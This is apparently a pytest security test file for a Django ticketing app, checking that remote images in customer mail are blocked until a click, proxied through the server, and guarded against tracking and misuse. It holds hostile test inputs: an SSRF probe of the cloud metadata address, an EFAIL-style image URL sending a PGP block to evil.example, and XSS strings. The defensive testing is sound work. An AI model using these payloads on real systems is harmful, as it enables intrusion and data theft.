"""Attacks 23 and 14: remote images wait for a click, and then come through our own server."""

from __future__ import annotations

import re

import pytest
from django.core.cache import cache

from core.fetch import CannotFetch, Fetched
from core.html import sanitize
from tests.security.test_attack_25_pages import browser_of
from tickets.actions import update_ticket
from tickets.drafts import CommentDraft
from tickets.models import Comment
from web import remote_images

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("clean_cache")]
PNG = b"\x89PNG\r\n\x1a\n" + b"0" * 100
MAIL = sanitize(
    '<p>Sale<img src="https://shop.example/a.png?u=1&amp;v=2" width="300">'
    '<img src="//shop.example/b.gif"><img src="http://track.example/1" width="1" height="1">'
    '<img src="http://track.example/2" style="display:none">'
    '<img src="http://track.example/3" style="color:red;height:0px"><img src="cid:x"></p>'
)
A = "https://shop.example/a.png?u=1&v=2"


@pytest.fixture
def asked(monkeypatch) -> list[str]:
    """The addresses that were fetched; every one is a picture."""
    urls: list[str] = []

    def fetch(url: str, **_how: object) -> Fetched:
        urls.append(url)
        return Fetched(url, PNG, "text/html")

    monkeypatch.setattr(remote_images, "fetch", fetch)
    return urls


@pytest.fixture
def comment(make_ticket) -> Comment:
    return make_ticket(comment={"html": MAIL}).comments.get()


def click(person, comment) -> list[str]:
    """The addresses of the images that an agent's click on "Show images" shows."""
    browser = browser_of(person)
    answer = browser.post(f"/comments/{comment.pk}/images/", headers={"HX-Request": "true"})
    assert answer.status_code == 200
    return re.findall(r'<img src="([^"]+)"', answer.content.decode())


def test_nothing_is_fetched_without_a_click(comment, alice, carol, asked):
    page = browser_of(alice).get(f"/tickets/{comment.ticket_id}/").content.decode()
    assert "2 remote images blocked, 3 tracking pixels removed" in page
    portal = browser_of(carol).get(f"/requests/{comment.ticket_id}/").content.decode()
    for shown in (page, portal):
        assert not re.findall(r'<img[^>]* src="(?:http|//|/images)', shown)
    assert asked == []


def test_a_click_shows_the_images_through_our_server(comment, alice, asked):
    urls = click(alice, comment)
    assert len(urls) == 2
    assert all(url.startswith("/images/") for url in urls)
    assert asked == []
    answer = browser_of(alice).get(urls[0])
    assert asked == [A]
    assert answer.content == PNG
    assert answer["Content-Type"] == "image/png"
    assert answer["X-Content-Type-Options"] == "nosniff"
    assert answer["Content-Security-Policy"] == "sandbox; default-src 'none'"
    assert answer["Cache-Control"].startswith("private")
    browser_of(alice).get(urls[1])
    assert asked == [A, "https://shop.example/b.gif"]


def test_an_image_is_fetched_once_a_day(comment, alice, lead, asked):
    url = click(alice, comment)[0]
    assert browser_of(alice).get(url).content == browser_of(lead).get(url).content == PNG
    assert asked == [A]


def test_tracking_pixels_are_not_fetched_by_any_token(comment, alice, asked):
    for number in (2, 3, 4, 5, 99):
        token = remote_images.ids.sign("remote-image", comment.pk, number)
        assert browser_of(alice).get(f"/images/{token}/").status_code == 404
    assert asked == []


def test_only_readers_of_the_message_get_its_images(comment, alice, carol, mallory, lightly, asked):
    url = click(alice, comment)[0]
    assert browser_of(carol).get(url).status_code == 200
    assert browser_of(lightly).get(url).status_code == 200
    assert browser_of(mallory).get(url).status_code == 404
    assert browser_of(None).get(url).status_code == 302
    assert browser_of(mallory).post(f"/comments/{comment.pk}/images/").status_code in (403, 404)


def test_the_images_of_an_internal_note_are_not_the_customers(comment, alice, carol, asked):
    draft = CommentDraft(author_id=alice.pk, body="x", html=MAIL, is_public=False)
    from tests.factories import as_actor

    update_ticket(actor=as_actor(alice), ticket_id=comment.ticket_id, comment=draft)
    note = Comment.objects.latest("id")
    url = click(alice, note)[0]
    assert browser_of(carol).get(url).status_code == 404
    assert asked == []


@pytest.mark.parametrize("token", ["1-0-aaaaaaaaaaaaaaaaaaaa", "x", "1", "http:%2F%2F127.0.0.1"])
def test_a_token_that_we_did_not_sign_fetches_nothing(comment, alice, asked, token):
    assert browser_of(alice).get(f"/images/{token}/").status_code == 404
    assert asked == []


def test_a_link_cannot_do_the_click(comment, alice, carol, mallory, asked):
    assert browser_of(alice).get(f"/comments/{comment.pk}/images/").status_code == 405
    for token in ("1", remote_images.show_token(comment.pk, mallory.pk)):
        page = browser_of(carol).get(f"/requests/{comment.ticket_id}/?images={token}")
        assert "/images/" not in page.content.decode()


def test_a_customer_can_show_the_images_of_a_message(comment, carol, asked):
    page = browser_of(carol).get(f"/requests/{comment.ticket_id}/").content.decode()
    link = re.search(r'href="(\?images=[^"#]+)', page)[1]
    shown = browser_of(carol).get(f"/requests/{comment.ticket_id}/{link}").content.decode()
    urls = re.findall(r'<img src="(/images/[^"]+)"', shown)
    assert browser_of(carol).get(urls[0]).content == PNG
    assert asked == [A]


@pytest.mark.parametrize("content", [b"<svg onload=alert(1)>", b"<html>", b"", b"GIF", b"%PDF-1.4"])
def test_what_is_no_picture_by_its_bytes_is_not_passed_on(comment, alice, monkeypatch, content):
    monkeypatch.setattr(
        remote_images, "fetch", lambda url, **_how: Fetched(url, content, "image/png")
    )
    answer = browser_of(alice).get(click(alice, comment)[0])
    assert answer.status_code == 404
    assert answer.content == b""


def test_a_server_that_fails_is_left_alone_for_a_while(comment, alice, monkeypatch):
    tries: list[str] = []

    def fail(url: str, **_how: object) -> Fetched:
        tries.append(url)
        raise CannotFetch("The server is too slow.")

    monkeypatch.setattr(remote_images, "fetch", fail)
    url = click(alice, comment)[0]
    assert [browser_of(alice).get(url).status_code for _ in range(3)] == [404] * 3
    assert len(tries) == 1


@pytest.mark.parametrize("poison", ["text", {"a": 1}, b"<script>alert(1)</script>", 7])
def test_what_somebody_else_put_into_the_cache_is_not_served(comment, alice, asked, poison):
    import hashlib

    cache.set(f"remote-image:{hashlib.sha256(A.encode()).hexdigest()}", poison, 60)
    assert browser_of(alice).get(click(alice, comment)[0]).content == PNG
    assert asked == [A]


def test_an_image_address_of_our_own_network_is_refused(make_ticket, alice):
    html = sanitize('<img src="http://169.254.169.254/latest/meta-data/">')
    comment = make_ticket(comment={"html": html}).comments.get()
    assert browser_of(alice).get(click(alice, comment)[0]).status_code == 404


def test_an_encrypted_mail_is_stored_and_nothing_is_fetched(make_ticket, alice, asked):
    """EFAIL: we decrypt nothing, so there is no decrypted part whose html could call home."""
    html = sanitize('<img src="http://evil.example/?-----BEGIN PGP MESSAGE-----x">')
    ticket = make_ticket(comment={"html": html, "metadata": {"encrypted": True}})
    assert browser_of(alice).get(f"/tickets/{ticket.pk}/").status_code == 200
    assert asked == []
